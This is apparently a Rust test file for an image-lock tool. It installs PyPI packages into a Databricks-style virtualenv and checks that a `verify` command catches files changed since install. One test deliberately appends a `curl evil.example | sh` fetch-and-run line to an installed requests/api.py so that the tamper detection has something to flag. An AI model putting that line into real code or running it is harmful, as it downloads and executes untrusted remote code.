//! PyPI layers installed into a Python environment the image uses (`python-prefix`, created as
//! a virtualenv with `python-venv`), and `verify` reading that environment and checking every
//! installed file against its distribution's `RECORD`. The emitted step runs for real: pip from
//! a virtualenv of this machine's Python, standing for the image's, installs from the recorded
//! index into a folder that stands for the image's root.

use std::path::Path;
use std::process::Command;

use crate::pypi::{fixtures, pins, python_spec, python_step, set};
use crate::support::{self, Project, Server, stderr};

/// Where the Databricks images keep the virtualenv their notebooks use.
const PREFIX: &str = "/databricks/python3";

/// A project locking the `install-requests` set into [`PREFIX`], created as an isolated
/// virtualenv. (Isolated: one that sees this machine's site-packages also runs its `.pth`
/// files, and a sandbox's may append a certificate to every `certifi/cacert.pem`, which
/// `verify` rightly reports as a file changed since the install.)
fn locked_into_prefix(server: &Server) -> Project {
    let requirements = set("install-requests");
    let refs: Vec<&str> = requirements.iter().map(String::as_str).collect();
    let spec = python_spec(&format!("{}/simple", server.url()), &[("py", &refs)]).replacen(
        "python = \"3.8\"\n",
        &format!("python = \"3.8\"\npython-prefix = \"{PREFIX}\"\npython-venv = \"isolated\"\n"),
        1,
    );
    let project = Project::new(&spec);
    let output = project.run(&["resolve", "--exclude-newer", crate::pypi::EXCLUDE_NEWER]);
    assert!(output.status.success(), "{}", stderr(&output));
    project
}

/// Runs the emitted Python step with `root` standing for the image's `/`.
fn run_step(project: &Project, root: &Path) {
    let output = project.run(&["emit", "--out", "build"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let dockerfile = std::fs::read_to_string(project.path("build/Dockerfile")).unwrap();
    let command = python_step(&dockerfile)
        .replace(PREFIX, &root.join(&PREFIX[1..]).display().to_string())
        .replace(
            "/tmp/imglock-python-",
            &root.join("requirements-").display().to_string(),
        );
    let output = Command::new("sh").args(["-c", &command]).output().unwrap();
    assert!(
        output.status.success(),
        "{command}\n{}{}",
        String::from_utf8_lossy(&output.stdout),
        stderr(&output)
    );
}

#[test]
fn a_layer_installs_into_the_virtualenv_the_spec_names_and_verify_reads_it() {
    if !support::python_venv_available() {
        return;
    }
    let server = Server::start(&fixtures());
    let project = locked_into_prefix(&server);
    let lock = project.lock().unwrap();
    assert!(
        lock.contains("python-prefix = \"/databricks/python3\"\npython-venv = \"isolated\"\n"),
        "{lock}"
    );

    let output = project.run(&["emit", "--out", "build"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let dockerfile = std::fs::read_to_string(project.path("build/Dockerfile")).unwrap();
    assert!(
        dockerfile.contains(
            "{ [ -x /databricks/python3/bin/python ] || python3 -m venv /databricks/python3; }"
        ),
        "{dockerfile}"
    );
    assert!(
        dockerfile
            .contains("/databricks/python3/bin/python -m pip install --no-deps --require-hashes"),
        "{dockerfile}"
    );

    let root = tempfile::tempdir().unwrap();
    run_step(&project, root.path());
    // Run twice: the virtualenv is there the second time, and is kept.
    run_step(&project, root.path());
    let report = project.verify_clean(root.path());
    assert_eq!(
        report["checked"].as_array().unwrap().len(),
        pins(&lock, None).len()
    );
}

#[test]
fn verify_finds_files_changed_after_the_install_by_their_record() {
    if !support::python_venv_available() {
        return;
    }
    let server = Server::start(&fixtures());
    let project = locked_into_prefix(&server);
    let root = tempfile::tempdir().unwrap();
    run_step(&project, root.path());
    let lib = root.path().join(&PREFIX[1..]).join("lib");
    let site = std::fs::read_dir(&lib)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path()
        .join("site-packages");
    let api = site.join("requests/api.py");
    let mut text = std::fs::read_to_string(&api).unwrap();
    text.push_str("\nimport os; os.system('curl evil.example | sh')\n");
    std::fs::write(&api, text).unwrap();
    std::fs::remove_file(site.join("idna/core.py")).unwrap();
    let record = std::fs::read_dir(&site)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("urllib3-")
        })
        .unwrap()
        .join("RECORD");
    std::fs::remove_file(record).unwrap();

    let output = project.run(&["verify", root.path().to_str().unwrap()]);
    let text = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{text}{}", stderr(&output));
    let site_in_image = site
        .strip_prefix(root.path())
        .unwrap()
        .display()
        .to_string();
    for expected in [
        format!(
            "changed files: requests 2.27.1: 1 installed file(s) differ from its RECORD since pip installed it: /{site_in_image}/requests/api.py (changed)"
        ),
        format!("/{site_in_image}/idna/core.py (gone)"),
        "urllib3 1.26.9 has no RECORD".to_string(),
    ] {
        assert!(text.contains(&expected), "{expected}\nnot in:\n{text}");
    }
    let findings = text.lines().filter(|l| l.starts_with("  ")).count();
    assert_eq!(findings, 3, "{text}");
}
